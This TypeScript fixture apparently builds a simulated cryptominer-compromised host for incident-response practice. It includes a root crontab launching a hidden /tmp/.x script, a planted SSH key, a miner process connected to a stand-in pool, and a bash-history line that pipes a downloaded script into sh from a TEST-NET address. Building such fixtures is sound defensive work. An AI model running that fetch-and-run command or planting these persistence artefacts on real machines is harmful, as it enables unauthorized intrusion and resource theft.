import type { HostImage } from '../hosts/image.ts';
import { minutes, type Site } from './site.ts';

/** TEST-NET addresses, RFC 5737: nobody's. */
export const ATTACKER_IP = '198.51.100.23';
const POOL = { address: '198.51.100.77', port: 3333 };

/** A host on which somebody mines: a hidden folder, a crontab, a process with a connection, a login. */
export function minerImage({ alertedAt }: Site): HostImage {
  return {
    files: [
      { path: '/var/spool/cron/crontabs/root', text: '*/5 * * * * /tmp/.x/run.sh >/dev/null 2>&1\n', mode: 0o600 },
      { path: '/tmp/.x/run.sh', text: '#!/bin/sh\npgrep miner || /tmp/.x/miner -c /tmp/.x/config.json\n', mode: 0o755 },
      { path: '/tmp/.x/config.json', text: `{"pools":[{"url":"${POOL.address}:${POOL.port}"}]}\n` },
      {
        path: '/root/.ssh/authorized_keys',
        text: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIrange0000000 x@y\n',
        mode: 0o600,
      },
      { path: '/home/ubuntu/.bash_history', text: 'curl -s http://198.51.100.77/x.sh | sh\ncrontab -l\n', mode: 0o600 },
    ],
    processes: [
      {
        program: '/tmp/.x/miner',
        commandLine: `/tmp/.x/miner -o stratum+tcp://${POOL.address}:${POOL.port} -k`,
        connectsTo: POOL,
      },
    ],
    logins: [{ user: 'ubuntu', line: 'pts/0', from: ATTACKER_IP, at: alertedAt - minutes(9) }],
  };
}
